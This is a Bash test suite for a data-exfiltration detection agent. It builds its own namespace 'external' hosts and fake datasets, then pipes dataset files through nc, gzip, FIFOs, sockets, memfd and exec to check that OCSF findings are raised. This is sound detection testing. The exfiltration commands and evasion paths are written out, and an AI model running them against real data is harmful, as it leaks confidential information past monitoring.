#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
# test_dataflow.sh - taint through pipes, copies and loopback to test hosts in network namespaces; OCSF findings.
set -u
. "$(dirname "$0")/../lib/lib.sh"
need_root dataflow
mount_kernel_fs

# Two test hosts the test creates itself: "external" (not allowed) and "ok" (allowed egress).
EXT=dt-ext-$$
OKNS=dt-ok-$$
VX=dtx$$
VO=dto$$
T=$(mktemp -d /var/tmp/dt-flow.XXXXXX)
PIDS_TO_KILL=""
cleanup() {
	for p in $PIDS_TO_KILL; do kill "$p" 2>/dev/null; done
	[ -n "${AGENT_PID:-}" ] && kill -KILL "$AGENT_PID" 2>/dev/null
	ip netns pids "$EXT" 2>/dev/null | xargs -r kill 2>/dev/null
	ip netns pids "$OKNS" 2>/dev/null | xargs -r kill 2>/dev/null
	ip link del "$VX" 2>/dev/null
	ip link del "$VO" 2>/dev/null
	ip netns del "$EXT" 2>/dev/null
	ip netns del "$OKNS" 2>/dev/null
	mountpoint -q "$T/scratch" && umount "$T/scratch"
	lib_cleanup
	[ -n "${DT_KEEP:-}" ] && echo "kept $T" >&2 || rm -rf "$T"
}
trap cleanup EXIT

setup_host "$EXT" "$VX" 10.199.1.1 10.199.1.2 fd00:199:1::1 fd00:199:1::2 || exit 1
setup_host "$OKNS" "$VO" 10.199.2.1 10.199.2.2 || exit 1

chmod 755 "$T"
mkdir -p "$T/ds/sub" "$T/out"
head -c 100000 /dev/urandom >"$T/ds/a.bin"
head -c 20000 /dev/urandom >"$T/ds/b.bin"
head -c 5000 /dev/urandom >"$T/ds/sub/c.bin"
head -c 5000 /dev/urandom >"$T/plain.bin"
chmod -R a+rX "$T/ds"
# A training job's dataset: its allowed job is a copy of python (by uid and executable), its
# checkpoints go to $T/ckpt or the scratch file system (a tmpfs the test mounts).
mkdir -p "$T/weights" "$T/bin" "$T/ckpt" "$T/scratch" "$T/out/many"
head -c 30000 /dev/urandom >"$T/weights/w.bin"
cp "$(readlink -f /usr/bin/python3)" "$T/bin/trainer"
mount -t tmpfs -o size=1m dt-scratch "$T/scratch" || exit 1
cat >"$T/inv.json" <<EOF
{"datasets": [
  {"id": "faces", "classification": "restricted", "paths": ["$T/ds"], "tags": ["PII"],
   "allowed_readers": {"uids": [0]},
   "allowed_writers": {"uids": [4321]},
   "allowed_egress": ["10.199.2.0/24"],
   "derived": {"paths": ["$T/ckpt/"]}},
  {"id": "weights", "classification": "confidential", "paths": ["$T/weights"],
   "allowed_readers": {"uids": [0], "executables": ["$T/bin/trainer"]},
   "derived": {"paths": ["$T/ckpt/", "mount:$T/scratch"]}}
]}
EOF

EV=$T/events.jsonl
FI=$T/findings.jsonl
# Findings of one kind raised against one pid: their field's last value.
finding() { # kind pid field
	$EVQ "$FI" last "$3" --where finding_info.types.0="$1" --where evidences.0.process.pid="$2"
}
nfindings() { # kind pid
	$EVQ "$FI" count --where finding_info.types.0="$1" --where evidences.0.process.pid="$2"
}

agent_start "$T" "$T/inv.json" --flush-ms 200 --trace "$T/trace" --status-file "$T/status.json" ||
	exit 1

# 1. cat dataset | nc external
listen "$EXT" tcp 10.199.1.2 9001 "$T/recv1" || exit 1
/usr/bin/cat "$T/ds/a.bin" | /usr/bin/nc -w 10 -N 10.199.1.2 9001 &
NC1_PID=$!
wait $NC1_PID

# 2. cat dataset | gzip | nc external
listen "$EXT" tcp 10.199.1.2 9002 "$T/recv2" || exit 1
/usr/bin/cat "$T/ds/a.bin" | /usr/bin/gzip -c | /usr/bin/nc -w 10 -N 10.199.1.2 9002 &
NC2_PID=$!
wait $NC2_PID

# 3. python reads the dataset and POSTs it over HTTP to the allowed host
cat >"$T/server.py" <<'EOF'
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        n = int(self.headers["Content-Length"])
        body = self.rfile.read(n)
        open(sys.argv[2], "w").write(str(len(body)))
        self.send_response(200); self.end_headers(); self.wfile.write(b"ok")
    def log_message(self, *a): pass
s = http.server.HTTPServer((sys.argv[1], 8080), H)
s.handle_request()
EOF
ip netns exec "$OKNS" timeout 20 $PY "$T/server.py" 10.199.2.2 "$T/recv3" &
PIDS_TO_KILL="$PIDS_TO_KILL $!"
for i in $(seq 100); do ip netns exec "$OKNS" ss -ltn | grep -q ':8080 ' && break; sleep 0.05; done
$PY -c "
import urllib.request
data = open('$T/ds/a.bin', 'rb').read()
req = urllib.request.Request('http://10.199.2.2:8080/', data=data, method='POST')
assert urllib.request.urlopen(req, timeout=10).read() == b'ok'
" &
POST_PID=$!
wait $POST_PID

# 4. cp to a place outside the dataset, then an unrelated process uploads the copy
/usr/bin/cp "$T/ds/a.bin" "$T/out/copy.bin" &
CP_PID=$!
wait $CP_PID
listen "$EXT" tcp 10.199.1.2 9004 "$T/recv4" || exit 1
/usr/bin/nc -w 10 -N 10.199.1.2 9004 <"$T/out/copy.bin" &
NC4_PID=$!
wait $NC4_PID

# 5. a process that read nothing classified sends
listen "$EXT" tcp 10.199.1.2 9005 "$T/recv5" || exit 1
/usr/bin/nc -w 10 -N 10.199.1.2 9005 <"$T/plain.bin" &
NC5_PID=$!
wait $NC5_PID

# 6. a read by a uid outside allowed_readers
setpriv --reuid=1234 --regid=1234 --clear-groups /usr/bin/cat "$T/ds/b.bin" >/dev/null &
UID_PID=$!
wait $UID_PID

# 7. appending to a dataset file (root is not an allowed writer)
/bin/sh -c "echo poisoned-sample >> '$T/ds/b.bin'" &
APPEND_PID=$!
wait $APPEND_PID

# 8. IPv6
listen "$EXT" tcp fd00:199:1::2 9006 "$T/recv6" || exit 1
/usr/bin/cat "$T/ds/sub/c.bin" | /usr/bin/nc -w 10 -N fd00:199:1::2 9006 &
NC6_PID=$!
wait $NC6_PID

# 9. UDP
listen "$EXT" udp 10.199.1.2 9007 "$T/recv7" || exit 1
/usr/bin/cat "$T/ds/sub/c.bin" | /usr/bin/nc -w 10 -u -q 0 10.199.1.2 9007 &
UDP_PID=$!
wait $UDP_PID

# 10. loopback relay: tainted nc -> local relay -> external
listen "$EXT" tcp 10.199.1.2 9008 "$T/recv8" || exit 1
cat >"$T/relay.py" <<'EOF'
import socket, sys
ls = socket.socket(); ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
ls.bind(("127.0.0.1", 9100)); ls.listen(1); ls.settimeout(20)
open(sys.argv[1], "w").close()
c, _ = ls.accept(); c.settimeout(20)
data = b""
while True:
    b = c.recv(65536)
    if not b: break
    data += b
out = socket.create_connection(("10.199.1.2", 9008), timeout=10)
out.sendall(data); out.close()
EOF
rm -f "$T/relay.ready"
$PY "$T/relay.py" "$T/relay.ready" &
RELAY_PID=$!
for i in $(seq 100); do [ -e "$T/relay.ready" ] && break; sleep 0.05; done
/usr/bin/cat "$T/ds/a.bin" | /usr/bin/nc -w 10 -N 127.0.0.1 9100 &
NCL_PID=$!
wait $NCL_PID
wait $RELAY_PID

# 11. FIFO
mkfifo "$T/fifo"
listen "$EXT" tcp 10.199.1.2 9011 "$T/recv11" || exit 1
/usr/bin/cat "$T/ds/sub/c.bin" >"$T/fifo" &
/usr/bin/nc -w 10 -N 10.199.1.2 9011 <"$T/fifo" &
FIFO_PID=$!
wait $FIFO_PID

# 12. socketpair: a forked child reads the dataset and hands it to its parent, who sends it
listen "$EXT" tcp 10.199.1.2 9012 "$T/recv12" || exit 1
$PY -c "
import os, socket
a, b = socket.socketpair()
if os.fork() == 0:
    a.close(); b.sendall(open('$T/ds/sub/c.bin', 'rb').read()); os._exit(0)
b.close(); data = b''
while True:
    chunk = a.recv(65536)
    if not chunk: break
    data += chunk
os.wait()
socket.create_connection(('10.199.1.2', 9012), timeout=10).sendall(data)
" &
SPAIR_PID=$!
wait $SPAIR_PID

# 13. a named UNIX stream socket between two processes
listen "$EXT" tcp 10.199.1.2 9013 "$T/recv13" || exit 1
$PY -c "
import socket, sys
ls = socket.socket(socket.AF_UNIX); ls.bind('$T/unix.sock'); ls.listen(1); ls.settimeout(20)
open('$T/unix.ready', 'w').close()
c, _ = ls.accept(); c.settimeout(20); data = b''
while True:
    chunk = c.recv(65536)
    if not chunk: break
    data += chunk
socket.create_connection(('10.199.1.2', 9013), timeout=10).sendall(data)
" &
USRV_PID=$!
for i in $(seq 100); do [ -e "$T/unix.ready" ] && break; sleep 0.05; done
/usr/bin/cat "$T/ds/sub/c.bin" | /usr/bin/nc -w 10 -N -U "$T/unix.sock" &
wait $!
wait $USRV_PID

# 14. a copy in /dev/shm, uploaded by another process
SHM=/dev/shm/dt-test-$$
/usr/bin/cp "$T/ds/sub/c.bin" "$SHM" &
SHMCP_PID=$!
wait $SHMCP_PID
listen "$EXT" tcp 10.199.1.2 9014 "$T/recv14" || exit 1
/usr/bin/nc -w 10 -N 10.199.1.2 9014 <"$SHM" &
SHMNC_PID=$!
wait $SHMNC_PID
rm -f "$SHM"

# 15. a memfd written by a tainted process, read through /proc by an unrelated one
$PY -c "
import os, time
fd = os.memfd_create('stash')
os.write(fd, open('$T/ds/sub/c.bin', 'rb').read())
open('$T/memfd.ready', 'w').write(str(fd))
time.sleep(20)
" &
MEMFD_PID=$!
PIDS_TO_KILL="$PIDS_TO_KILL $MEMFD_PID"
for i in $(seq 100); do [ -s "$T/memfd.ready" ] && break; sleep 0.05; done
listen "$EXT" tcp 10.199.1.2 9015 "$T/recv15" || exit 1
/usr/bin/nc -w 10 -N 10.199.1.2 9015 <"/proc/$MEMFD_PID/fd/$(cat "$T/memfd.ready")" &
MEMNC_PID=$!
wait $MEMNC_PID
kill $MEMFD_PID

# 16. taint survives exec: python reads the dataset, then becomes nc and sends other bytes
listen "$EXT" tcp 10.199.1.2 9016 "$T/recv16" || exit 1
$PY -c "
import os
open('$T/ds/sub/c.bin', 'rb').read()
os.execv('/usr/bin/nc', ['nc', '-w', '10', '-N', '10.199.1.2', '9016'])
" <"$T/plain.bin" &
EXEC_PID=$!
wait $EXEC_PID

# 17. the allowed job: reads its dataset, writes three checkpoints where they may live
cat >"$T/train.py" <<'EOF'
import sys
data = open(sys.argv[1], "rb").read()
for i, path in enumerate(sys.argv[2:]):
    with open(path, "wb") as f:
        f.write(data[i * 10000:(i + 1) * 10000])
EOF
"$T/bin/trainer" "$T/train.py" "$T/weights/w.bin" "$T/ckpt/ckpt-1.pt" "$T/ckpt/ckpt-2.pt" \
	"$T/scratch/ckpt-3.pt" &
TRAIN_PID=$!
wait $TRAIN_PID
# ... the same job writing outside those places, and cp (not the allowed executable) in them
"$T/bin/trainer" "$T/train.py" "$T/weights/w.bin" "$T/out/stray.pt" &
STRAY_PID=$!
wait $STRAY_PID
/usr/bin/cp "$T/weights/w.bin" "$T/ckpt/cp.pt" &
WCP_PID=$!
wait $WCP_PID
# ... and a checkpoint uploaded by a process that is no allowed reader
listen "$EXT" tcp 10.199.1.2 9017 "$T/recv17" || exit 1
/usr/bin/nc -w 10 -N 10.199.1.2 9017 <"$T/ckpt/ckpt-2.pt" &
CKNC_PID=$!
wait $CKNC_PID

# 18. one process, fifty copies (root reads faces, outside faces' places): one finding
$PY -c "
data = open('$T/ds/a.bin', 'rb').read()
for i in range(50):
    open('$T/out/many/f-%02d.bin' % i, 'wb').write(data[i * 1000:(i + 1) * 1000])
" &
MANY_PID=$!
wait $MANY_PID

sleep 0.5
agent_stop

test_agent_exits_cleanly() {
	ASSERT_EQ "$AGENT_RC" 0 "agent exit status"
	ASSERT_EQ "$(stat -c %a "$FI")" 600 "findings file mode"
}

test_cat_pipe_nc_exfiltration() {
	ASSERT_EQ "$(stat -c %s "$T/recv1")" 100000 "bytes received by the external host"
	ASSERT_EQ "$(finding exfiltration $NC1_PID unmapped.bytes)" 100000 "finding bytes"
	ASSERT_EQ "$(finding exfiltration $NC1_PID resources.0.uid)" faces "dataset"
	ASSERT_EQ "$(finding exfiltration $NC1_PID resources.0.type)" dataset "resource type"
	ASSERT_EQ "$(finding exfiltration $NC1_PID evidences.0.process.name)" nc "process name"
	ASSERT_EQ "$(finding exfiltration $NC1_PID evidences.0.process.file.path)" /usr/bin/nc "exe"
	ASSERT_EQ "$(finding exfiltration $NC1_PID evidences.0.process.parent_process.pid)" $$ \
		"parent is this test shell"
	ASSERT_EQ "$(finding exfiltration $NC1_PID evidences.0.dst_endpoint.ip)" 10.199.1.2 "dst ip"
	ASSERT_EQ "$(finding exfiltration $NC1_PID evidences.0.dst_endpoint.port)" 9001 "dst port"
	ASSERT_EQ "$(finding exfiltration $NC1_PID class_uid)" 2004 "class_uid"
	ASSERT_EQ "$(finding exfiltration $NC1_PID severity_id)" 4 "severity: restricted"
	ASSERT_EQ "$(finding exfiltration $NC1_PID unmapped.via.hop)" pipe "taint came through a pipe"
	ASSERT_HAS "$(finding exfiltration $NC1_PID finding_info.attacks.0.technique.uid)" T1048 "att&ck"
	ASSERT_EQ "$($EVQ "$FI" values finding_info.uid --where evidences.0.process.pid=$NC1_PID | wc -l)" 1 \
		"one finding uid per (process, dataset, destination)"
	ASSERT_EQ "$($EVQ "$FI" count --where evidences.0.process.pid=$NC1_PID --where activity_id=1)" 1 \
		"created once"
}

test_pipe_chain_through_gzip() {
	local sent
	sent=$(stat -c %s "$T/recv2")
	ASSERT_NEQ "$sent" 0 "gzip output reached the external host"
	ASSERT_EQ "$(finding exfiltration $NC2_PID unmapped.bytes)" "$sent" "finding bytes = bytes sent"
	ASSERT_EQ "$(finding exfiltration $NC2_PID resources.0.uid)" faces "dataset"
	ASSERT_EQ "$(finding exfiltration $NC2_PID evidences.0.process.name)" nc "process name"
}

test_allowed_destination_is_silent() {
	ASSERT_EQ "$(cat "$T/recv3")" 100000 "the allowed host received the POST"
	ASSERT_EQ "$($EVQ "$EV" sum unmapped.bytes --where actor.process.pid=$POST_PID)" 100000 \
		"the poster read the dataset"
	ASSERT_EQ "$($EVQ "$FI" count --where evidences.0.process.pid=$POST_PID)" 0 "findings for the poster"
}

test_copy_then_upload() {
	ASSERT_EQ "$(finding derived_copy $CP_PID evidences.0.file.path)" "$T/out/copy.bin" "copy path"
	ASSERT_EQ "$(finding derived_copy $CP_PID unmapped.bytes)" 100000 "bytes copied"
	ASSERT_EQ "$(finding derived_copy $CP_PID resources.0.uid)" faces "copy dataset"
	ASSERT_EQ "$(finding derived_copy $CP_PID evidences.0.process.file.path)" /usr/bin/cp "copier"
	ASSERT_EQ "$(finding exfiltration $NC4_PID unmapped.bytes)" 100000 "upload of the copy"
	ASSERT_EQ "$(finding exfiltration $NC4_PID resources.0.uid)" faces "upload dataset"
	ASSERT_EQ "$(finding exfiltration $NC4_PID unmapped.via.hop)" read "tainted by reading the copy"
}

test_untainted_sender_is_silent() {
	ASSERT_EQ "$(stat -c %s "$T/recv5")" 5000 "plain bytes arrived"
	ASSERT_EQ "$($EVQ "$FI" count --where evidences.0.process.pid=$NC5_PID)" 0 "findings"
}

test_unauthorized_reader() {
	ASSERT_EQ "$(finding unauthorized_read $UID_PID unmapped.bytes)" 20000 "bytes read"
	ASSERT_EQ "$(finding unauthorized_read $UID_PID evidences.0.process.user.uid)" 1234 "uid"
	ASSERT_EQ "$(finding unauthorized_read $UID_PID resources.0.uid)" faces "dataset"
	ASSERT_EQ "$($EVQ "$FI" count --where finding_info.types.0=unauthorized_read --where evidences.0.process.user.uid=0 \
		--where resources.0.uid=faces)" 0 "root is an allowed reader"
}

test_append_is_tamper() {
	ASSERT_EQ "$(finding dataset_tamper $APPEND_PID evidences.0.file.path)" "$T/ds/b.bin" "file"
	ASSERT_EQ "$(finding dataset_tamper $APPEND_PID unmapped.bytes)" 16 "bytes appended"
	ASSERT_HAS "$(finding dataset_tamper $APPEND_PID unmapped.operations)" write "operation"
	ASSERT_EQ "$(finding dataset_tamper $APPEND_PID severity_id)" 5 "severity"
	ASSERT_EQ "$(finding dataset_tamper $APPEND_PID finding_info.attacks.1.technique.uid)" AML.T0020 \
		"atlas: poison training data"
}

test_ipv6() {
	ASSERT_EQ "$(stat -c %s "$T/recv6")" 5000 "bytes received over IPv6"
	ASSERT_EQ "$(finding exfiltration $NC6_PID evidences.0.dst_endpoint.ip)" fd00:199:1::2 "dst ip"
	ASSERT_EQ "$(finding exfiltration $NC6_PID unmapped.bytes)" 5000 "bytes"
}

test_udp() {
	ASSERT_EQ "$(finding exfiltration $UDP_PID evidences.0.connection_info.protocol_name)" udp "proto"
	ASSERT_EQ "$(finding exfiltration $UDP_PID unmapped.bytes)" 5000 "bytes"
	ASSERT_EQ "$(finding exfiltration $UDP_PID evidences.0.dst_endpoint.port)" 9007 "port"
}

test_loopback_relay() {
	ASSERT_EQ "$(stat -c %s "$T/recv8")" 100000 "relayed bytes arrived"
	ASSERT_EQ "$(finding exfiltration $RELAY_PID unmapped.bytes)" 100000 "relay exfiltration bytes"
	ASSERT_EQ "$(finding exfiltration $RELAY_PID evidences.0.process.name)" python3 "relay named"
	ASSERT_EQ "$(finding exfiltration $RELAY_PID unmapped.via.hop)" loopback "tainted over loopback"
	ASSERT_EQ "$($EVQ "$FI" count --where evidences.0.process.pid=$NCL_PID)" 0 \
		"loopback is a channel, not egress"
}

test_fifo() {
	ASSERT_EQ "$(finding exfiltration $FIFO_PID unmapped.bytes)" 5000 "bytes through a FIFO"
	ASSERT_EQ "$(finding exfiltration $FIFO_PID unmapped.via.hop)" pipe "hop"
}

test_socketpair() {
	ASSERT_EQ "$(stat -c %s "$T/recv12")" 5000 "bytes arrived"
	ASSERT_EQ "$(finding exfiltration $SPAIR_PID unmapped.bytes)" 5000 "parent's exfiltration"
	ASSERT_EQ "$(finding exfiltration $SPAIR_PID unmapped.via.hop)" unix "tainted by its child"
}

test_unix_socket() {
	ASSERT_EQ "$(finding exfiltration $USRV_PID unmapped.bytes)" 5000 "server's exfiltration"
	ASSERT_EQ "$(finding exfiltration $USRV_PID unmapped.via.hop)" unix "hop"
}

test_dev_shm_copy() {
	ASSERT_EQ "$(finding derived_copy $SHMCP_PID evidences.0.file.path)" "$SHM" "copy in /dev/shm"
	ASSERT_EQ "$(finding derived_copy $SHMCP_PID unmapped.bytes)" 5000 "bytes"
	ASSERT_EQ "$(finding exfiltration $SHMNC_PID unmapped.bytes)" 5000 "upload of the copy"
}

test_memfd() {
	# It also wrote memfd.ready, a second derived file: look at every copy it made.
	ASSERT_HAS "$($EVQ "$FI" values evidences.0.file.path --where finding_info.types.0=derived_copy \
		--where evidences.0.process.pid=$MEMFD_PID)" "memfd:stash" "memfd"
	ASSERT_EQ "$(finding exfiltration $MEMNC_PID unmapped.bytes)" 5000 "upload from the memfd"
	ASSERT_EQ "$(finding exfiltration $MEMNC_PID resources.0.uid)" faces "dataset"
}

test_taint_survives_exec() {
	ASSERT_EQ "$(finding exfiltration $EXEC_PID evidences.0.process.name)" nc "named after exec"
	ASSERT_EQ "$(finding exfiltration $EXEC_PID evidences.0.process.file.path)" /usr/bin/nc "exe"
	ASSERT_EQ "$(finding exfiltration $EXEC_PID unmapped.bytes)" 5000 "bytes"
}

test_allowed_job_checkpoints_are_silent() {
	ASSERT_EQ "$($EVQ "$FI" count --where evidences.0.process.pid=$TRAIN_PID)" 0 \
		"no finding for the allowed job's checkpoints"
	ASSERT_EQ "$($EVQ "$EV" sum unmapped.bytes --where actor.process.pid=$TRAIN_PID \
		--where unmapped.access=read)" 30000 "the job read its dataset"
	# Derived all the same: written into, in events, with the dataset.
	ASSERT_EQ "$($EVQ "$EV" sum unmapped.bytes --where actor.process.pid=$TRAIN_PID \
		--where unmapped.access=write --where unmapped.dataset=weights)" 30000 \
		"the three checkpoints are derived files of the dataset"
	ASSERT_EQ "$($EVQ "$EV" sum unmapped.bytes --where actor.process.pid=$TRAIN_PID \
		--where file.path="$T/scratch/ckpt-3.pt")" 10000 "the one on the scratch mount too"
	ASSERT_GE "$($PY -c "import json; print(json.load(open('$T/status.json'))['counters']['derived_copies_expected'])")" \
		3 "counted as expected in the status file"
}

test_allowed_job_outside_its_places() {
	ASSERT_EQ "$($EVQ "$FI" values finding_info.uid --where finding_info.types.0=derived_copy \
		--where evidences.0.process.pid=$STRAY_PID | sort -u | wc -l)" 1 "the copy outside is reported"
	ASSERT_EQ "$(finding derived_copy $STRAY_PID evidences.0.file.path)" "$T/out/stray.pt" "file"
	ASSERT_EQ "$(finding derived_copy $STRAY_PID resources.0.uid)" weights "dataset"
	ASSERT_EQ "$(finding derived_copy $STRAY_PID unmapped.bytes)" 10000 "bytes"
	ASSERT_EQ "$(finding derived_copy $WCP_PID evidences.0.file.path)" "$T/ckpt/cp.pt" \
		"another executable's copy is reported in the job's place"
	ASSERT_EQ "$(finding unauthorized_read $WCP_PID resources.0.uid)" weights "and its read"
}

test_checkpoint_upload_is_exfiltration() {
	ASSERT_EQ "$(stat -c %s "$T/recv17")" 10000 "the checkpoint reached the external host"
	ASSERT_EQ "$(finding exfiltration $CKNC_PID unmapped.bytes)" 10000 "finding bytes"
	ASSERT_EQ "$(finding exfiltration $CKNC_PID resources.0.uid)" weights "the dataset"
	ASSERT_EQ "$(finding exfiltration $CKNC_PID unmapped.via.hop)" read "by reading the copy"
}

test_many_copies_one_finding() {
	ASSERT_EQ "$($EVQ "$FI" values finding_info.uid --where finding_info.types.0=derived_copy \
		--where evidences.0.process.pid=$MANY_PID | sort -u | wc -l)" 1 "one finding"
	ASSERT_EQ "$($EVQ "$FI" count --where finding_info.types.0=derived_copy \
		--where evidences.0.process.pid=$MANY_PID --where activity_id=1)" 1 "created once"
	ASSERT_EQ "$(finding derived_copy $MANY_PID activity_id)" 3 "closed at exit"
	ASSERT_EQ "$(finding derived_copy $MANY_PID unmapped.file_count)" 50 "file count"
	ASSERT_EQ "$(finding derived_copy $MANY_PID unmapped.bytes)" 50000 "total bytes"
	ASSERT_EQ "$(finding derived_copy $MANY_PID evidences.0.file.path)" "$T/out/many/f-00.bin" \
		"first file"
	ASSERT_EQ "$(finding derived_copy $MANY_PID unmapped.last_file)" "$T/out/many/f-49.bin" \
		"last file"
}

# The run was recorded: the trace must verify and replay to exactly the same lines.
test_trace_verifies() {
	local out
	out=$("$DATATRAIL" trace verify "$T/trace")
	ASSERT_EQ "$?" 0 "verify exit status"
	ASSERT_HAS "$out" ": ok:" "verify says ok"
	ASSERT_EQ "$(stat -c %a "$T/trace")" 700 "trace dir mode"
	ASSERT_EQ "$(find "$T/trace" -type f ! -perm 600 | wc -l)" 0 "trace files 0600"
}

test_replay_reproduces_findings() {
	"$DATATRAIL" replay "$T/trace" >"$T/replay.jsonl"
	ASSERT_EQ "$?" 0 "replay exit status"
	ASSERT_EQ "$(wc -l <"$T/replay.jsonl")" "$(wc -l <"$FI")" "as many finding lines"
	ASSERT_SAME_LINES "$FI" "$T/replay.jsonl" \
		"replayed findings are the live ones, byte for byte"
}

test_trace_cat() {
	"$DATATRAIL" trace cat "$T/trace" >"$T/cat.jsonl"
	ASSERT_SAME_LINES "$EV" "$T/cat.jsonl" \
		"trace cat prints the live event lines"
	ASSERT_EQ "$("$DATATRAIL" trace cat "$T/trace" --pid $POST_PID | $EVQ /dev/stdin sum unmapped.bytes)" \
		100000 "--pid filter"
	ASSERT_EQ "$("$DATATRAIL" trace cat "$T/trace" --dataset nope | wc -l)" 0 "--dataset filter"
	ASSERT_EQ "$("$DATATRAIL" trace cat "$T/trace" --until 1000 | wc -l)" 0 "--until filter"
	ASSERT_EQ "$("$DATATRAIL" trace cat "$T/trace" --since 2000-01-01T00:00:00Z | wc -l)" \
		"$(wc -l <"$EV")" "--since filter"
}

test_replay_with_another_inventory() {
	cat >"$T/inv2.json" <<EOF
{"datasets": [
  {"id": "faces", "classification": "restricted", "paths": ["/nonexistent/on/this/host"],
   "allowed_writers": {"uids": [4321]},
   "allowed_egress": ["10.199.0.0/16", "fd00:199:1::/64"]}
]}
EOF
	"$DATATRAIL" replay "$T/trace" --inventory "$T/inv2.json" >"$T/replay2.jsonl"
	ASSERT_EQ "$?" 0 "replay exit status"
	ASSERT_EQ "$($EVQ "$T/replay2.jsonl" count --where finding_info.types.0=exfiltration)" 0 \
		"with the test hosts allowed nothing is exfiltration"
	ASSERT_EQ "$($EVQ "$T/replay2.jsonl" count --where finding_info.types.0=unauthorized_read)" 0 \
		"without allowed_readers no read is unauthorized"
	ASSERT_EQ "$(finding dataset_tamper $APPEND_PID unmapped.bytes)" \
		"$($EVQ "$T/replay2.jsonl" last unmapped.bytes --where finding_info.types.0=dataset_tamper --where evidences.0.process.pid=$APPEND_PID)" \
		"tampering is still tampering"
}

test_replay_explain() {
	local uid out
	uid=$(finding exfiltration $NC1_PID finding_info.uid)
	out=$("$DATATRAIL" replay "$T/trace" --explain "$uid")
	ASSERT_EQ "$?" 0 "explain exit status"
	ASSERT_HAS "$out" "finding $uid: exfiltration of dataset 'faces' by pid $NC1_PID (nc)" "head"
	ASSERT_HAS "$out" "(cat) read '$T/ds/a.bin': 100000 bytes" "the read"
	ASSERT_HAS "$out" "pipe     pid $NC1_PID (nc) took the taint from pid" "the pipe hop"
	ASSERT_HAS "$out" "sent 100000 bytes to 10.199.1.2 port 9001" "the send"
	uid=$(finding exfiltration $NC4_PID finding_info.uid)
	out=$("$DATATRAIL" replay "$T/trace" --explain "$uid")
	ASSERT_HAS "$out" "(cp) read '$T/ds/a.bin'" "the copy's source read"
	ASSERT_HAS "$out" "(nc) read '$T/out/copy.bin' (a derived copy)" "the upload read the copy"
}

# Every line the run wrote, live, replayed and printed by trace cat, is OCSF 1.8.0.
test_ocsf_valid() {
	[ -f "$T/replay.jsonl" ] || "$DATATRAIL" replay "$T/trace" >"$T/replay.jsonl"
	[ -f "$T/cat.jsonl" ] || "$DATATRAIL" trace cat "$T/trace" >"$T/cat.jsonl"
	ASSERT_OCSF "events" "$EV"
	ASSERT_OCSF "findings" "$FI"
	ASSERT_OCSF "replay" "$T/replay.jsonl"
	ASSERT_OCSF "trace cat" "$T/cat.jsonl"
	ASSERT_KINDS "findings" "$FI" \
		finding_info.types.0=exfiltration,activity_id=1 \
		finding_info.types.0=exfiltration,activity_id=3 \
		finding_info.types.0=derived_copy,activity_id=1 \
		finding_info.types.0=unauthorized_read,activity_id=1 \
		finding_info.types.0=dataset_tamper,activity_id=1
	ASSERT_KINDS "events" "$EV" activity_id=2 unmapped.access=write
	ASSERT_EQ "$(cat "$EV" "$FI" | $EVQ /dev/stdin values metadata.uid | wc -l)" \
		"$(cat "$EV" "$FI" | wc -l)" "a metadata.uid of its own on every line"
	ASSERT_EQ "$(diff <($EVQ "$FI" values metadata.uid) <($EVQ "$T/replay.jsonl" values metadata.uid))" "" \
		"replay gives the live metadata.uid"
}

# A finding closes when its process exits, with the figures of its last update or more.
test_close_when_process_ends() {
	local uid
	uid=$(finding exfiltration $NC1_PID finding_info.uid)
	ASSERT_EQ "$($EVQ "$FI" last activity_id --where finding_info.uid="$uid")" 3 "last line: Close"
	ASSERT_EQ "$($EVQ "$FI" count --where finding_info.uid="$uid" --where activity_id=3)" 1 \
		"one Close"
	ASSERT_EQ "$($EVQ "$FI" last unmapped.bytes --where finding_info.uid="$uid" --where activity_id=3)" \
		100000 "the final figures"
	ASSERT_NEQ "$($EVQ "$FI" last finding_info.modified_time --where finding_info.uid="$uid")" "" \
		"modified_time"
	ASSERT_EQ "$($EVQ "$FI" values metadata.uid | wc -l)" "$(wc -l <"$FI")" \
		"a metadata.uid per line"
}

run_tests dataflow
